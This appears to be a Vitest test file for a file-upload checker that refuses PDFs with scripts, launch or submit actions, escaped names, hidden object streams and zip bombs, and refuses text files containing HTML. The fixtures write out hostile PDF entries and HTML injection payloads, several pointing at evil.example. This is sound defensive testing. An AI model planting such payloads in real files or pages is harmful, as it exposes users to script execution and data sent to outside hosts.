import { describe, expect, it } from 'vitest';
import { checkFile } from './files';
import { concat, deflate, enc, objectStream, pdf, streamObject } from '../../test/pdf-bytes';

/** Tests for issue 20.11: active content in PDFs and HTML sent as text is refused (docs/decisions/0101). */

const PDF_INFLATE_BUDGET = 40 * 1024 * 1024;
const check = (bytes: Uint8Array, name = 'bill.pdf', type = 'application/pdf') => checkFile(name, type, bytes);
const refused = { ok: false, reason: 'activeContent' };

describe('issue 20.11: a PDF with scripts or automatic actions is refused', () => {
  it('control: an ordinary PDF, with a compressed page, image and font, is accepted', async () => {
    const page = await deflate(enc('BT /F1 12 Tf 72 712 Td (Your bill for October: /JS is not a name here) Tj ET'.replace('/JS', 'JS')));
    // Binary data that happens to spell /JS and /AA: image and font bytes are not PDF syntax.
    const binary = concat(new Uint8Array(512).map((_, i) => (i * 151) % 256), enc(' /JS /AA '), new Uint8Array(512).map((_, i) => (i * 97) % 256));
    const file = pdf(
      streamObject(3, '/Filter /FlateDecode', page),
      streamObject(4, '/Type /XObject /Subtype /Image /Width 8 /Height 8 /Filter /FlateDecode', await deflate(binary)),
      streamObject(6, '/Length1 1024 /Filter /FlateDecode', await deflate(binary)),
      streamObject(7, '/Type /XObject /Subtype /Image /Filter /DCTDecode', binary),
      await objectStream('<< /Type /Annot /Subtype /Link /Border [0 0 0] >>'),
    );
    expect(await check(file)).toEqual({ ok: true, kind: 'pdf' });
  });

  it.each([
    ['/OpenAction', '/OpenAction << /S /GoTo /D [0 /Fit] >>'],
    ['/JavaScript and /JS', '/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (app.alert(1)) >>] >> >>'],
    ['/Launch', '/AcroForm << /Fields [] >> /Foo << /S /Launch /F (calc.exe) >>'],
    ['/AA', '/AA << /O << /S /GoTo /D [0 /Fit] >> >>'],
    ['/SubmitForm', '/X << /S /SubmitForm /F (https://evil.example/) >>'],
    ['/ImportData', '/X << /S /ImportData /F (data.fdf) >>'],
    ['/RichMedia', '/X << /Subtype /RichMedia >>'],
    ['/EmbeddedFile', '/X << /Type /EmbeddedFile >>'],
  ])('in plain view: %s', async (_, entry) => {
    expect(await check(pdf(`8 0 obj\n<< ${entry} >>\nendobj\n`))).toEqual(refused);
  });

  it('names written with #xx escapes', async () => {
    for (const entry of ['/Open#41ction 3 0 R', '/S /#4Aava#53cript /J#53 (app.alert(1))', '/S /L#61unch', '/#41#41 << >>']) {
      expect(await check(pdf(`8 0 obj\n<< ${entry} >>\nendobj\n`)), entry).toEqual(refused);
    }
  });

  it('names inside a FlateDecode object stream, its filter name escaped or not', async () => {
    expect(await check(pdf(await objectStream('<< /S /JavaScript /JS (app.alert(1)) >>')))).toEqual(refused);
    expect(await check(pdf(await objectStream('<< /Open#41ction 3 0 R >>', '/Type /ObjStm /Filter /Fl#61teDecode')))).toEqual(refused);
    // Without /Type /ObjStm a reader still parses it by /First, and with the filter in an array.
    expect(await check(pdf(await objectStream('<< /S /Launch /F (x) >>', '/Filter [/FlateDecode]')))).toEqual(refused);
    // A compressed stream that is PDF syntax, object stream or not.
    expect(await check(pdf(streamObject(3, '/Filter /FlateDecode', await deflate(enc('<< /S /JavaScript /JS (x) >>')))))).toEqual(refused);
  });

  it('what cannot be checked is refused: an object stream under another filter, a filter by reference, a predictor, bytes that do not inflate', async () => {
    const objects = enc('9 0 << /S /JavaScript >>');
    for (const [label, file] of [
      ['ASCIIHex first', streamObject(5, '/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]', objects)],
      ['filter by reference', streamObject(5, '/Type /ObjStm /N 1 /First 4 /Filter 12 0 R', objects)],
      ['predictor', streamObject(5, '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>', await deflate(objects))],
      ['not deflate data', streamObject(5, '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', new Uint8Array(64).fill(0xaa))],
    ] as const) {
      expect(await check(pdf(file)), label).toEqual(refused);
    }
  });

  it('a compressed stream that would inflate past the budget (a zip bomb) is refused without being expanded', async () => {
    const bomb = await deflate(new Uint8Array(PDF_INFLATE_BUDGET + 1));
    expect(bomb.length).toBeLessThan(200_000);
    expect(await check(pdf(streamObject(3, '/Filter /FlateDecode', bomb)))).toEqual(refused);
    // Many streams share one budget.
    const quarter = await deflate(new Uint8Array(PDF_INFLATE_BUDGET / 4 + 1));
    expect(await check(pdf(...[3, 4, 6, 7].map((n) => streamObject(n, '/Filter /FlateDecode', quarter))))).toEqual(refused);
  }, 30_000);
});

describe('issue 20.11: a text file that is HTML is refused; an email keeps its HTML part', () => {
  it.each([
    '<img src=x onerror=alert(1)>',
    'Click <a href="https://evil.example/">here</a>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<body>Hello</body>',
    '<style>body{background:url(https://evil.example/)}</style>',
    '<form action="https://evil.example/"><input name=p></form>',
    '<object data="x.swf"></object>',
    '<embed src="x.swf">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<div onclick="steal()">Your bill</div>',
    '<P ONMOUSEOVER = "x()">upper case</P>',
  ])('%s', async (text) => {
    expect(await check(enc(`Notes from the call\n${text}\n`), 'notes.txt', 'text/plain')).toEqual(refused);
  });

  it('control: text that only mentions angle brackets and "on" is accepted', async () => {
    const text = 'Called on 2 Oct; the price < 5 and one = two.\nOption one=3 <- chosen. Email me at <zoe@example.com>.\nSpeed: 10 Mb/s <> 80 promised.';
    expect(await check(enc(text), 'notes.txt', 'text/plain')).toEqual({ ok: true, kind: 'txt' });
  });

  it('an email with an HTML part (a link, an image) is accepted as before; a script in it still is not', async () => {
    const mail = (html: string) =>
      enc(`From: support@nasstar.example\nTo: zoe@example.com\nSubject: Your bill\nMIME-Version: 1.0\nContent-Type: text/html\n\n<html>${html}</html>`.replace('<html>', '<p>'));
    expect(await check(mail('<a href="https://nasstar.example/bill">Your bill</a> <img src="cid:logo">'), 'mail.eml', 'message/rfc822')).toEqual({ ok: true, kind: 'eml' });
    expect(await check(mail('<script>alert(1)</script>'), 'mail.eml', 'message/rfc822')).toEqual(refused);
  });
});
